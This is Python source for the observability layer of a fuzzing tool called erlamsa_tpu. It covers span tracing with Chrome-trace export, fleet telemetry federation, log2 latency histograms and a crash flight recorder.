        self.tracer = tracer
        self.name = name
        self.attrs = attrs
        self.span_id = 0
        self.parent_id = 0
        self._t0 = 0.0
        self._xprof_ctx = None
        self._remote_parent = remote_parent

    def annotate(self, **attrs):
        """Attach extra args to the span (merged into the trace event)."""
        self.attrs.update(attrs)
        return self

    def __enter__(self):
        tr = self.tracer
        self.span_id = tr._next_id()
        stack = tr._stack()
        # a carried remote parent (frame header / cross-thread work item)
        # only applies at the top of a thread's stack — nested spans keep
        # parenting locally so in-process structure stays intact
        self.parent_id = (stack[-1].span_id if stack
                          else self._remote_parent)
        stack.append(self)
        if tr._xprof:
            try:
                import jax

                self._xprof_ctx = jax.profiler.TraceAnnotation(self.name)
                self._xprof_ctx.__enter__()
            except Exception:  # lint: broad-except-ok xprof is best-effort decoration
                self._xprof_ctx = None
        self._t0 = time.perf_counter()
        return self

    def __exit__(self, *exc):
        t1 = time.perf_counter()
        if self._xprof_ctx is not None:
            try:
                self._xprof_ctx.__exit__(*exc)
            except Exception:  # lint: broad-except-ok xprof is best-effort decoration
                pass
        tr = self.tracer
        stack = tr._stack()
        if stack and stack[-1] is self:
            stack.pop()
        tr._finish(self, self._t0, t1)
        return False


class Tracer:
    """Process-wide span collector. configure() arms it; span() is the
    one hot-path entry point."""

    def __init__(self):
        self._lock = threading.Lock()
        self._enabled = False
        self._path: str | None = None
        self._xprof: str | None = None
        self._events: list[dict] = []
        self._dropped = 0
        self._id = 0
        self._t_base = time.perf_counter()
        self._tls = threading.local()
        self._atexit_installed = False
        self._exported_upto = -1
        self._trace_id = ""
        self._nodes: dict[int, str] = {}

    # -- configuration ----------------------------------------------------

    def configure(self, path: str | None = None, xprof: str | None = None,
                  trace_id: str | None = None):
        """Arm tracing (``--trace FILE`` / ``--xprof DIR``). Either
        argument alone enables span collection; export() writes the
        Chrome trace when a path is set. Calling with neither disables
        tracing again. `trace_id` names the campaign-wide trace every
        propagated context carries; defaults to a pid-derived id (never
        wall clock or entropy — same no-wallclock contract as span ids)."""
        with self._lock:
            self._path = path
            self._xprof = xprof
            self._enabled = bool(path or xprof)
            self._events = []
            self._dropped = 0
            self._t_base = time.perf_counter()
            self._exported_upto = -1
            self._trace_id = ((trace_id or f"t{os.getpid():08x}")
                              if self._enabled else "")
            self._nodes = {}
        if xprof:
            try:
                import jax

                jax.profiler.start_trace(xprof)
            except Exception as e:  # lint: broad-except-ok xprof needs a working jax; trace-file path must survive without it
                from ..services import logger

                logger.log("warning", "obs: jax.profiler unavailable "
                           "(%s); spans still trace to file", e)
                with self._lock:
                    self._xprof = None
                    self._enabled = bool(path)
        if self._enabled and not self._atexit_installed:
            import atexit

            atexit.register(self.export)
            self._atexit_installed = True

    def enabled(self) -> bool:
        return self._enabled

    # -- hot path ---------------------------------------------------------

    def span(self, name: str, **attrs):
        """Open a span (context manager). Free when tracing is disabled."""
        if not self._enabled:
            return _NOOP
        return Span(self, name, attrs)

    def span_remote(self, name: str, trace_id: str = "", parent: int = 0,
                    **attrs):
        """Open a span whose parent arrived over the wire (or from
        another thread's work item). `parent` is the remote span id; it
        only takes effect when this thread has no live local span, so
        propagated context never rewires in-process nesting. A foreign
        `trace_id` is recorded as a span arg for cross-node correlation."""
        if not self._enabled:
            return _NOOP
        if trace_id and trace_id != self._trace_id:
            attrs["trace_id"] = trace_id
        return Span(self, name, attrs, remote_parent=int(parent or 0))

    def current_span_id(self) -> int:
        """Innermost live span id on this thread (0 = none) — the
        correlation key JSON log lines carry."""
        stack = getattr(self._tls, "stack", None)
        return stack[-1].span_id if stack else 0

    def current_context(self) -> tuple[str, int]:
        """The ``(trace_id, span_id)`` pair to stamp into an outgoing
        frame header. ``("", 0)`` when tracing is disabled — callers
        skip the header keys entirely so the wire bytes are identical
        with tracing off."""
        if not self._enabled:
            return ("", 0)
        return (self._trace_id, self.current_span_id())

    def trace_id(self) -> str:
        return self._trace_id if self._enabled else ""

    # -- federation --------------------------------------------------------

    def take_events(self, start: int = 0) -> tuple[list[dict], int]:
        """Copy out the event tail from index `start` for telemetry
        shipping; returns ``(events, next_start)``. The event list is
        append-only between configure() calls, so `next_start` is a
        stable resume cursor."""
        with self._lock:
            return (list(self._events[start:]), len(self._events))

    def ingest(self, events: list, node: str) -> int:
        """Fold a worker's shipped span events into this tracer so one
        export covers the fleet. Events stamped with this process's own
        pid are skipped — in-process loopback workers share GLOBAL and
        their spans are already here. Returns the number ingested."""
        if not self._enabled or not events:
            return 0
        own = os.getpid()
        n = 0
        with self._lock:
            for ev in events:
                if not isinstance(ev, dict) or ev.get("pid") == own:
                    continue
                try:
                    pid = int(ev.get("pid", 0))
                except (TypeError, ValueError):
                    continue
                self._nodes.setdefault(pid, node)
                if len(self._events) < MAX_EVENTS:
                    self._events.append(ev)
                    n += 1
                else:
                    self._dropped += 1
        return n

    def _stack(self) -> list:
        stack = getattr(self._tls, "stack", None)
        if stack is None:
            stack = self._tls.stack = []
        return stack

    def _next_id(self) -> int:
        with self._lock:
            self._id += 1
            return self._id

    def _finish(self, span: Span, t0: float, t1: float):
        ts_us = (t0 - self._t_base) * 1e6
        dur_us = (t1 - t0) * 1e6
        ev = {
            "name": span.name, "ph": "X", "ts": round(ts_us, 1),
            "dur": round(dur_us, 1), "pid": os.getpid(),
            "tid": threading.get_ident(),
            "args": {"span_id": span.span_id,
                     "parent_id": span.parent_id, **span.attrs},
        }
        with self._lock:
            if len(self._events) < MAX_EVENTS:
                self._events.append(ev)
            else:
                self._dropped += 1
        flight.GLOBAL.note_span(span.name, span.span_id, span.parent_id,
                                t0 - self._t_base, t1 - t0, span.attrs)

    # -- export -----------------------------------------------------------

    def export(self, path: str | None = None) -> str | None:
        """Write the Chrome trace JSON to `path` (default: the configured
        ``--trace`` file). Idempotent — safe to call from finally blocks
        AND atexit; returns the path written, or None when there is
        nowhere to write."""
        path = path or self._path
        if not path:
            return None
        with self._lock:
            events = list(self._events)
            dropped = self._dropped
            nodes = dict(self._nodes)
            trace_id = self._trace_id
            # atexit backstop after an explicit export with no new spans:
            # nothing to add, and the target dir may already be gone
            # (tests export into a tempdir they then remove)
            if path == self._path and len(events) == self._exported_upto:
                return path
        own = os.getpid()
        names = {}
        for ev in events:
            if ev.get("pid") == own:
                names.setdefault(ev["tid"], None)
        meta = [
            {"name": "thread_name", "ph": "M", "pid": own,
             "tid": tid, "args": {"name": f"thread-{i}"}}
            for i, tid in enumerate(sorted(names))
        ]
        meta += [
            {"name": "process_name", "ph": "M", "pid": pid,
             "args": {"name": f"worker:{node}"}}
            for pid, node in sorted(nodes.items())
        ]
        doc = {
            "traceEvents": meta + events,
            "displayTimeUnit": "ms",
            "otherData": {"tool": "erlamsa_tpu", "dropped_events": dropped,
                          "trace_id": trace_id},
        }
        tmp = path + ".tmp"
        try:
            with open(tmp, "w") as f:
                json.dump(doc, f)
            os.replace(tmp, path)
        except OSError as e:
            # export must never take the process down (it runs from
            # finally blocks and atexit); the spans stay in memory
            from ..services import logger

            logger.log("warning", "obs: trace export to %s failed: %s",
                       path, e)
            return None
        with self._lock:
            if path == self._path:
                self._exported_upto = len(events)
        if self._xprof:
            try:
                import jax

                jax.profiler.stop_trace()
            except Exception:  # lint: broad-except-ok stop is best-effort; trace may already be stopped
                pass
            self._xprof = None
        return path

    def stats(self) -> dict:
        with self._lock:
            return {"enabled": self._enabled, "events": len(self._events),
                    "dropped": self._dropped, "path": self._path}


GLOBAL = Tracer()

# flight entries carry the active trace_id (satellite of the fleet
# telemetry plane); registered as a callback because trace imports
# flight, so flight cannot import trace back
flight.set_context_source(lambda: GLOBAL.trace_id())


def configure(path: str | None = None, xprof: str | None = None,
              trace_id: str | None = None):
    GLOBAL.configure(path=path, xprof=xprof, trace_id=trace_id)


def span(name: str, **attrs):
    return GLOBAL.span(name, **attrs)


def span_remote(name: str, trace_id: str = "", parent: int = 0, **attrs):
    return GLOBAL.span_remote(name, trace_id=trace_id, parent=parent,
                              **attrs)


def enabled() -> bool:
    return GLOBAL.enabled()


def current_span_id() -> int:
    return GLOBAL.current_span_id()


def current_context() -> tuple[str, int]:
    return GLOBAL.current_context()


def trace_id() -> str:
    return GLOBAL.trace_id()


def take_events(start: int = 0) -> tuple[list[dict], int]:
    return GLOBAL.take_events(start)


def ingest(events: list, node: str) -> int:
    return GLOBAL.ingest(events, node)


def export(path: str | None = None) -> str | None:
    return GLOBAL.export(path)
