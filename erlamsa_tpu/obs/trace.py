"""Low-overhead span tracer with Chrome-trace-event export.

Spans wrap the pipeline's hot stages (batcher enqueue→flush→step→drain,
corpus plan→upload→device-step→score→feedback, dist RPCs, host-oracle
calls). Each span gets a COUNTER-KEYED id (a process-wide monotonic
counter, never wall clock or entropy — ids must be stable enough to
correlate with JSON log lines, not random) and monotonic-clock timing.

Disabled (the default), ``span()`` is one attribute read returning a
shared no-op context manager — the <1% overhead contract the bench
corpus stage pins. Enabled, completed spans append one small dict to a
bounded in-memory event list exported as Chrome trace events
(``{"traceEvents": [...]}``), loadable in Perfetto / chrome://tracing,
and are mirrored into the flight recorder ring (obs/flight.py) so a
crash dump carries the seconds of spans before the incident.

``--xprof DIR`` additionally starts a ``jax.profiler`` trace into DIR
and annotates every span as a TraceAnnotation so XLA device timelines
and host spans line up in XProf/TensorBoard. jax is imported lazily and
only on that path — this module stays stdlib-pure otherwise.
"""

from __future__ import annotations

import json
import os
import threading
import time

from . import flight

#: bounded event list: ~100 bytes/event, 500k events ~ 50MB worst case;
#: beyond it events are dropped and counted (never silently)
MAX_EVENTS = 500_000


class _NoopSpan:
    """The disabled-path singleton: every method is a no-op."""

    __slots__ = ()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

    def annotate(self, **attrs):
        return self

    @property
    def span_id(self):
        return 0


_NOOP = _NoopSpan()


class Span:
    """One live span. Use as a context manager; timing is monotonic
    (perf_counter) and never feeds back into replay values — the
    fuzzlint no-wallclock rule enforces that spans stay write-only from
    replay paths."""

    __slots__ = ("tracer", "name", "attrs", "span_id", "parent_id",
                 "_t0", "_xprof_ctx")

    def __init__(self, tracer: "Tracer", name: str, attrs: dict):
        self.tracer = tracer
        self.name = name
        self.attrs = attrs
        self.span_id = 0
        self.parent_id = 0
        self._t0 = 0.0
        self._xprof_ctx = None

    def annotate(self, **attrs):
        """Attach extra args to the span (merged into the trace event)."""
        self.attrs.update(attrs)
        return self

    def __enter__(self):
        tr = self.tracer
        self.span_id = tr._next_id()
        stack = tr._stack()
        self.parent_id = stack[-1].span_id if stack else 0
        stack.append(self)
        if tr._xprof:
            try:
                import jax

                self._xprof_ctx = jax.profiler.TraceAnnotation(self.name)
                self._xprof_ctx.__enter__()
            except Exception:  # lint: broad-except-ok xprof is best-effort decoration
                self._xprof_ctx = None
        self._t0 = time.perf_counter()
        return self

    def __exit__(self, *exc):
        t1 = time.perf_counter()
        if self._xprof_ctx is not None:
            try:
                self._xprof_ctx.__exit__(*exc)
            except Exception:  # lint: broad-except-ok xprof is best-effort decoration
                pass
        tr = self.tracer
        stack = tr._stack()
        if stack and stack[-1] is self:
            stack.pop()
        tr._finish(self, self._t0, t1)
        return False


class Tracer:
    """Process-wide span collector. configure() arms it; span() is the
    one hot-path entry point."""

    def __init__(self):
        self._lock = threading.Lock()
        self._enabled = False
        self._path: str | None = None
        self._xprof: str | None = None
        self._events: list[dict] = []
        self._dropped = 0
        self._id = 0
        self._t_base = time.perf_counter()
        self._tls = threading.local()
        self._atexit_installed = False
        self._exported_upto = -1

    # -- configuration ----------------------------------------------------

    def configure(self, path: str | None = None, xprof: str | None = None):
        """Arm tracing (``--trace FILE`` / ``--xprof DIR``). Either
        argument alone enables span collection; export() writes the
        Chrome trace when a path is set. Calling with neither disables
        tracing again."""
        with self._lock:
            self._path = path
            self._xprof = xprof
            self._enabled = bool(path or xprof)
            self._events = []
            self._dropped = 0
            self._t_base = time.perf_counter()
            self._exported_upto = -1
        if xprof:
            try:
                import jax

                jax.profiler.start_trace(xprof)
            except Exception as e:  # lint: broad-except-ok xprof needs a working jax; trace-file path must survive without it
                from ..services import logger

                logger.log("warning", "obs: jax.profiler unavailable "
                           "(%s); spans still trace to file", e)
                with self._lock:
                    self._xprof = None
                    self._enabled = bool(path)
        if self._enabled and not self._atexit_installed:
            import atexit

            atexit.register(self.export)
            self._atexit_installed = True

    def enabled(self) -> bool:
        return self._enabled

    # -- hot path ---------------------------------------------------------

    def span(self, name: str, **attrs):
        """Open a span (context manager). Free when tracing is disabled."""
        if not self._enabled:
            return _NOOP
        return Span(self, name, attrs)

    def current_span_id(self) -> int:
        """Innermost live span id on this thread (0 = none) — the
        correlation key JSON log lines carry."""
        stack = getattr(self._tls, "stack", None)
        return stack[-1].span_id if stack else 0

    def _stack(self) -> list:
        stack = getattr(self._tls, "stack", None)
        if stack is None:
            stack = self._tls.stack = []
        return stack

    def _next_id(self) -> int:
        with self._lock:
            self._id += 1
            return self._id

    def _finish(self, span: Span, t0: float, t1: float):
        ts_us = (t0 - self._t_base) * 1e6
        dur_us = (t1 - t0) * 1e6
        ev = {
            "name": span.name, "ph": "X", "ts": round(ts_us, 1),
            "dur": round(dur_us, 1), "pid": os.getpid(),
            "tid": threading.get_ident(),
            "args": {"span_id": span.span_id,
                     "parent_id": span.parent_id, **span.attrs},
        }
        with self._lock:
            if len(self._events) < MAX_EVENTS:
                self._events.append(ev)
            else:
                self._dropped += 1
        flight.GLOBAL.note_span(span.name, span.span_id, span.parent_id,
                                t0 - self._t_base, t1 - t0, span.attrs)

    # -- export -----------------------------------------------------------

    def export(self, path: str | None = None) -> str | None:
        """Write the Chrome trace JSON to `path` (default: the configured
        ``--trace`` file). Idempotent — safe to call from finally blocks
        AND atexit; returns the path written, or None when there is
        nowhere to write."""
        path = path or self._path
        if not path:
            return None
        with self._lock:
            events = list(self._events)
            dropped = self._dropped
            # atexit backstop after an explicit export with no new spans:
            # nothing to add, and the target dir may already be gone
            # (tests export into a tempdir they then remove)
            if path == self._path and len(events) == self._exported_upto:
                return path
        names = {}
        for ev in events:
            names.setdefault(ev["tid"], None)
        meta = [
            {"name": "thread_name", "ph": "M", "pid": os.getpid(),
             "tid": tid, "args": {"name": f"thread-{i}"}}
            for i, tid in enumerate(sorted(names))
        ]
        doc = {
            "traceEvents": meta + events,
            "displayTimeUnit": "ms",
            "otherData": {"tool": "erlamsa_tpu", "dropped_events": dropped},
        }
        tmp = path + ".tmp"
        try:
            with open(tmp, "w") as f:
                json.dump(doc, f)
            os.replace(tmp, path)
        except OSError as e:
            # export must never take the process down (it runs from
            # finally blocks and atexit); the spans stay in memory
            from ..services import logger

            logger.log("warning", "obs: trace export to %s failed: %s",
                       path, e)
            return None
        with self._lock:
            if path == self._path:
                self._exported_upto = len(events)
        if self._xprof:
            try:
                import jax

                jax.profiler.stop_trace()
            except Exception:  # lint: broad-except-ok stop is best-effort; trace may already be stopped
                pass
            self._xprof = None
        return path

    def stats(self) -> dict:
        with self._lock:
            return {"enabled": self._enabled, "events": len(self._events),
                    "dropped": self._dropped, "path": self._path}


GLOBAL = Tracer()


def configure(path: str | None = None, xprof: str | None = None):
    GLOBAL.configure(path=path, xprof=xprof)


def span(name: str, **attrs):
    return GLOBAL.span(name, **attrs)


def enabled() -> bool:
    return GLOBAL.enabled()


def current_span_id() -> int:
    return GLOBAL.current_span_id()


def export(path: str | None = None) -> str | None:
    return GLOBAL.export(path)
