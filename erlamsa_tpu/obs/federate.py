"""Telemetry federation: the coordinator-side fold of fleet worker
telemetry into one observable plane.

Each fleet worker answers a ``shard_telemetry`` frame (piggybacked on
the ``shard_sync`` window fence, services/dist.py) with its cumulative
metric totals (services.metrics.Counters.federation_totals), its
flight-ring tail, and its span-event tail. This module is where those
payloads land:

  * metric totals are kept per node and re-exposed by obs/prom.py as
    ``erlamsa_worker_*{node="host:port"}`` families on the existing
    ``/metrics`` endpoint — one scrape covers the fleet;
  * flight entries fold node-stamped into the coordinator's flight
    recorder ring, so one SIGUSR2 dump captures every process;
  * span events fold into the coordinator's tracer, so one ``--trace``
    export is a merged fleet-wide timeline.

Totals are cumulative, not deltas, on purpose: ingest is idempotent, so
a telemetry frame lost to the ``obs.telemetry`` chaos site (or a real
wire fault) means stale data for one window — never corrupted counters.
The campaign itself is unaffected either way; telemetry is strictly
out-of-band (byte-identity pinned by tests/tier1 --obs-smoke).

Like obs/prom.py this module imports services.metrics, so it is NOT
imported from the obs package __init__ — dist/prom/report import it
lazily.
"""

from __future__ import annotations

import os
import threading

from . import flight, hist, trace


class Federation:
    """Per-node telemetry accumulator (GLOBAL below; one per process)."""

    def __init__(self):
        self._lock = threading.Lock()
        #: node -> latest cumulative totals payload ("metrics" key)
        self._nodes: dict[str, dict] = {}
        #: node -> telemetry frames ingested / entries folded
        self._ingests: dict[str, int] = {}

    def reset(self) -> None:
        with self._lock:
            self._nodes = {}
            self._ingests = {}

    def ingest(self, node: str, payload: dict) -> None:
        """Fold one worker telemetry payload. Raises ValueError on a
        malformed payload — the caller counts it as telemetry_lost and
        moves on; nothing here may raise into the campaign hot path."""
        if not isinstance(payload, dict):
            raise ValueError("telemetry payload: want a dict")
        totals = payload.get("metrics")
        if totals is not None and not isinstance(totals, dict):
            raise ValueError("telemetry payload: metrics must be a dict")
        node = str(node)
        if totals is not None:
            with self._lock:
                self._nodes[node] = totals
        with self._lock:
            self._ingests[node] = self._ingests.get(node, 0) + 1
        # an in-process loopback worker shares this process's GLOBAL
        # flight ring and tracer — folding its tails back in would
        # duplicate every entry, so same-pid payloads keep metrics only
        if payload.get("pid") == os.getpid():
            return
        entries = payload.get("flight") or []
        if entries:
            flight.GLOBAL.ingest(entries, node)
        events = payload.get("trace") or []
        if events:
            trace.GLOBAL.ingest(events, node)

    def nodes(self) -> list[str]:
        with self._lock:
            return sorted(self._nodes)

    def snapshot(self) -> dict:
        """Per-node totals for the campaign report / bench record."""
        with self._lock:
            return {"nodes": {n: dict(t) for n, t in self._nodes.items()},
                    "ingests": dict(self._ingests)}

    # -- exposition (called from obs/prom.py render) -----------------------

    def render_into(self, w) -> None:
        """Append ``erlamsa_worker_*{node=...}`` families to a prom
        _Writer. Families render once with every node's sample under
        them (prometheus forbids repeated HELP/TYPE heads)."""
        with self._lock:
            nodes = {n: t for n, t in sorted(self._nodes.items())}
        if not nodes:
            return

        scalar = (
            ("samples", "erlamsa_worker_samples_total", "counter",
             "Fuzzed samples produced on a fleet worker, by node.", 0),
            ("batches", "erlamsa_worker_batches_total", "counter",
             "Device batches stepped on a fleet worker, by node.", 0),
            ("bytes_out", "erlamsa_worker_bytes_out_total", "counter",
             "Output bytes produced on a fleet worker, by node.", 0),
            ("device_s", "erlamsa_worker_device_seconds_total", "counter",
             "Cumulative device step time on a fleet worker, by node.",
             0.0),
            ("round_trips", "erlamsa_worker_round_trips_total", "counter",
             "Awaited exchanges observed from the worker side, by node.",
             0),
            ("degraded", "erlamsa_worker_degraded", "gauge",
             "1 while a fleet worker serves from its host oracle.", 0),
        )
        for key, metric, kind, help_text, default in scalar:
            w.head(metric, kind, help_text)
            for node, totals in nodes.items():
                c = totals.get("counters") or {}
                w.sample(metric, c.get(key, default), {"node": node})

        w.head("erlamsa_worker_stage_seconds_total", "counter",
               "Cumulative wall seconds per pipeline stage on a fleet "
               "worker, by node and stage.")
        for node, totals in nodes.items():
            for stage, secs in sorted((totals.get("stages") or {}).items()):
                w.sample("erlamsa_worker_stage_seconds_total", secs,
                         {"node": node, "stage": stage})
        w.head("erlamsa_worker_resilience_events_total", "counter",
               "Resilience events on a fleet worker, by node and kind.")
        for node, totals in nodes.items():
            for kind, n in sorted((totals.get("events") or {}).items()):
                w.sample("erlamsa_worker_resilience_events_total", n,
                         {"node": node, "kind": kind})
        w.head("erlamsa_worker_fault_injected_total", "counter",
               "Chaos-injected failures on a fleet worker, by node and "
               "site.")
        for node, totals in nodes.items():
            for site, n in sorted((totals.get("faults") or {}).items()):
                w.sample("erlamsa_worker_fault_injected_total", n,
                         {"node": node, "site": site})

        # worker latency histograms: same canonical cumulative-le shape
        # as the local families (hist.cumulative_buckets)
        worker_hists = (
            ("batch_latency", "erlamsa_worker_batch_latency_seconds"),
            ("device_step", "erlamsa_worker_device_step_seconds"),
        )
        for hist_name, metric in worker_hists:
            if not any((t.get("hists") or {}).get(hist_name, {}).get(
                    "count", 0) for t in nodes.values()):
                continue
            w.head(metric, "histogram",
                   f"Log2-bucketed {hist_name.replace('_', ' ')} in "
                   f"seconds on a fleet worker, by node.")
            for node, totals in nodes.items():
                h = (totals.get("hists") or {}).get(hist_name)
                if not h:
                    continue
                for bound, cum in hist.cumulative_buckets(
                        h.get("counts") or []):
                    if bound == float("inf"):
                        le = "+Inf"
                    else:
                        le = (repr(int(bound)) if bound == int(bound)
                              else repr(bound))
                    w.sample(metric + "_bucket", cum,
                             {"node": node, "le": le})
                w.sample(metric + "_sum", h.get("sum", 0.0),
                         {"node": node})
                w.sample(metric + "_count", h.get("count", 0),
                         {"node": node})


GLOBAL = Federation()


def ingest(node: str, payload: dict) -> None:
    GLOBAL.ingest(node, payload)


def snapshot() -> dict:
    return GLOBAL.snapshot()


def reset() -> None:
    GLOBAL.reset()
