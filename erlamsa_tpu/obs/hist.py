"""Log2-bucketed latency histograms.

Fixed power-of-two boundaries (2^k seconds, k = -17..6: ~7.6µs up to
64s, plus +Inf) so histograms merge trivially, cost one array index per
observe, and map 1:1 onto Prometheus cumulative ``le`` buckets
(obs/prom.py). The bucket index comes from ``math.frexp`` — no log()
call, no loop — keeping observe() cheap enough for per-request use in
the batcher hot path.

Pure stdlib; thread-safe (one lock per histogram).
"""

from __future__ import annotations

import math
import threading

#: bucket upper bounds in seconds: 2^-17 (~7.6us) .. 2^6 (64s)
K_MIN = -17
K_MAX = 6
BOUNDS: tuple[float, ...] = tuple(2.0 ** k for k in range(K_MIN, K_MAX + 1))
N_BUCKETS = len(BOUNDS) + 1  # + the +Inf overflow bucket


def bucket_index(seconds: float) -> int:
    """Index of the smallest bound >= seconds (last index = +Inf).

    v = m * 2^e with m in [0.5, 1): v <= 2^(e-1) iff m == 0.5, else the
    smallest power-of-two bound is 2^e.
    """
    if seconds <= BOUNDS[0]:
        return 0
    m, e = math.frexp(seconds)
    k = e - 1 if m == 0.5 else e
    if k > K_MAX:
        return N_BUCKETS - 1
    return k - K_MIN


class Hist:
    """One histogram: counts per log2 bucket plus sum/count for means.

    snapshot() returns plain data (no shared mutable state) so callers
    can render or serialize it lock-free.
    """

    __slots__ = ("_lock", "_counts", "_sum", "_count")

    def __init__(self):
        self._lock = threading.Lock()
        self._counts = [0] * N_BUCKETS
        self._sum = 0.0
        self._count = 0

    def observe(self, seconds: float) -> None:
        if seconds < 0.0:
            seconds = 0.0
        i = bucket_index(seconds)
        with self._lock:
            self._counts[i] += 1
            self._sum += seconds
            self._count += 1

    def snapshot(self) -> dict:
        with self._lock:
            counts = list(self._counts)
            total, n = self._sum, self._count
        return {"bounds": list(BOUNDS), "counts": counts,
                "sum": total, "count": n}

    def cumulative(self) -> list[tuple[float, int]]:
        """Spec-compliant Prometheus buckets: ``(le, cumulative_count)``
        per bound, ending with ``(+Inf, count)``. THE canonical le
        conversion — obs/prom.py renders local and federated histograms
        through this shape so the exposition can't drift per call site."""
        snap = self.snapshot()
        return cumulative_buckets(snap["counts"])

    def quantile(self, q: float) -> float:
        """Estimated q-quantile (upper bound of the bucket holding the
        q-th observation); 0.0 when empty. Good to within one log2
        bucket — ample for p50/p99 dashboards."""
        with self._lock:
            n = self._count
            counts = list(self._counts)
        if n == 0:
            return 0.0
        rank = q * n
        seen = 0
        for i, c in enumerate(counts):
            seen += c
            if seen >= rank:
                return BOUNDS[i] if i < len(BOUNDS) else float("inf")
        return float("inf")

    def summary(self) -> dict:
        """Compact summary for Counters.snapshot(): count / sum / p50 /
        p99 (the fields the bench record and faas stats op surface)."""
        return {"count": self._count, "sum": self._sum,
                "p50": self.quantile(0.5), "p99": self.quantile(0.99)}


def cumulative_buckets(counts: list[int]) -> list[tuple[float, int]]:
    """Fold per-bucket counts (len N_BUCKETS, last = overflow) into
    cumulative ``(le, count)`` pairs ending ``(+Inf, total)``; tolerates
    short/long lists from a remote peer by zero-padding/truncating to
    N_BUCKETS."""
    counts = (list(counts) + [0] * N_BUCKETS)[:N_BUCKETS]
    out: list[tuple[float, int]] = []
    running = 0
    for bound, c in zip(BOUNDS, counts):
        running += int(c)
        out.append((bound, running))
    out.append((float("inf"), running + int(counts[-1])))
    return out
