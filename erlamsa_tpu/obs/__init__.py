"""Observability subsystem: span tracing, latency histograms, crash
flight recorder, Prometheus exposition.

Everything here is a pure SIDE CHANNEL off the fuzzing paths: spans and
histograms record when work happened and how long it took, never what was
computed — mutated output at a fixed ``-s`` is byte-identical with
tracing on or off (pinned by tests/test_obs.py), and with tracing
disabled a ``trace.span()`` call is one attribute check returning a
shared no-op.

Modules:

    trace.py   counter-keyed spans with monotonic timing; Chrome-trace
               (Perfetto-loadable) JSON export (``--trace FILE``) and
               optional jax.profiler annotation passthrough (``--xprof``)
    hist.py    log2-bucketed latency histograms (batch / request /
               device-step), folded into services.metrics.Counters
    flight.py  bounded ring of recent spans + resilience events, dumped
               to timestamped JSONL on device loss, breaker-open,
               supervisor give-up, or SIGUSR2
    prom.py    Prometheus text exposition over the metrics snapshot;
               the faas ``GET /metrics`` body and the standalone
               ``--metrics-port`` exporter
    federate.py  coordinator-side fold of fleet worker telemetry
               (``shard_telemetry`` frames): node-labeled
               ``erlamsa_worker_*`` families on /metrics, worker flight
               and span tails merged into the local ring/tracer
    report.py  the campaign report — per-stage cost ledger, span census
               and per-node worker totals rendered from a run's
               artifacts (``python -m erlamsa_tpu.obs.report``)

prom.py and federate.py import services.metrics, so they are NOT
imported here — use-sites import them lazily; this package stays
stdlib-pure (importable in jax-free contexts like the fuzzlint CI leg).
"""

from . import flight, hist, trace  # lint: unused-import-ok re-exported submodules

__all__ = ["flight", "hist", "trace"]
