"""Observability subsystem: span tracing, latency histograms, crash
flight recorder, Prometheus exposition.

Everything here is a pure SIDE CHANNEL off the fuzzing paths: spans and
histograms record when work happened and how long it took, never what was
computed — mutated output at a fixed ``-s`` is byte-identical with
tracing on or off (pinned by tests/test_obs.py), and with tracing
disabled a ``trace.span()`` call is one attribute check returning a
shared no-op.

Modules (all pure stdlib — importable in jax-free contexts like the
fuzzlint CI leg):

    trace.py   counter-keyed spans with monotonic timing; Chrome-trace
               (Perfetto-loadable) JSON export (``--trace FILE``) and
               optional jax.profiler annotation passthrough (``--xprof``)
    hist.py    log2-bucketed latency histograms (batch / request /
               device-step), folded into services.metrics.Counters
    flight.py  bounded ring of recent spans + resilience events, dumped
               to timestamped JSONL on device loss, breaker-open,
               supervisor give-up, or SIGUSR2
    prom.py    Prometheus text exposition over the metrics snapshot;
               the faas ``GET /metrics`` body and the standalone
               ``--metrics-port`` exporter
"""

from . import flight, hist, trace  # lint: unused-import-ok re-exported submodules

__all__ = ["flight", "hist", "trace"]
