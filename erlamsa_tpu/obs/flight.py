"""Flight recorder: a bounded ring of recent spans and resilience
events, dumped to timestamped JSONL when things go wrong.

The ring always collects resilience notes (they are rare and tiny);
span notes flow in only while tracing is enabled (obs/trace.py mirrors
every finished span here). On a trip event — device-loss degradation,
breaker-open, supervisor give-up — or on SIGUSR2, the ring is written
to ``flightrec-<timestamp>-<reason>.jsonl`` in the configured directory
so post-mortems of chaos runs and real incidents no longer depend on
scrollback. Without a configured directory (``--flight-dir``), trips
still log a one-line warning but nothing hits disk.

Times are monotonic offsets from recorder start — the recorder must not
introduce wall-clock reads into replay-adjacent code paths (fuzzlint's
no-wallclock rule covers obs/ too); the dump filename carries the only
wall-clock timestamp, via strftime at dump time.
"""

from __future__ import annotations

import collections
import json
import os
import threading
import time

#: event kinds (metrics.record_event) that automatically dump the ring
TRIP_KINDS = frozenset({"device_lost", "breaker_open", "supervisor_give_up"})

#: ring capacity: at ~200B/entry this is ~1MB resident, covering the
#: last few seconds of spans at full pipeline rate plus all rare events
RING_SIZE = 4096

#: min seconds between automatic dumps — a fault storm (breaker flapping,
#: repeated device probes failing) must not write hundreds of files
DUMP_DEBOUNCE_S = 5.0

#: callback returning the active trace_id ("" when tracing is off).
#: Registered by obs/trace.py at import — trace imports flight, so the
#: reverse dependency has to arrive as a callback, not an import.
_context_source = None


def set_context_source(fn) -> None:
    global _context_source
    _context_source = fn


def _active_trace_id() -> str:
    fn = _context_source
    if fn is None:
        return ""
    try:
        return fn() or ""
    except Exception:  # lint: broad-except-ok recorder must never raise into callers
        return ""


class FlightRecorder:
    def __init__(self, ring_size: int = RING_SIZE):
        self._lock = threading.Lock()
        self._ring: collections.deque = collections.deque(maxlen=ring_size)
        self._dir: str | None = None
        self._t0 = time.monotonic()
        self._last_dump = -DUMP_DEBOUNCE_S
        self._dumps = 0
        self._signal_installed = False
        self._seq = 0  # total entries ever appended (tail_since cursor)

    # -- configuration ----------------------------------------------------

    def configure(self, dump_dir: str | None):
        """Set (or clear) the dump directory and, the first time a
        directory is set, install a SIGUSR2 handler so a live process
        can be asked for its ring (`kill -USR2 <pid>`). Signal install
        is best-effort: it only works on the main thread and on
        platforms that have SIGUSR2."""
        with self._lock:
            self._dir = dump_dir
        if dump_dir:
            os.makedirs(dump_dir, exist_ok=True)
            self._install_signal()

    def _install_signal(self):
        if self._signal_installed:
            return
        try:
            import signal

            signal.signal(signal.SIGUSR2,
                          lambda signum, frame: self.dump("sigusr2"))
            self._signal_installed = True
        except (ValueError, AttributeError, OSError):
            # ValueError: not the main thread (e.g. configured from a
            # server worker); AttributeError: no SIGUSR2 on this
            # platform. Dumps on trip events still work.
            pass

    # -- recording --------------------------------------------------------

    def note(self, kind: str, **fields) -> None:
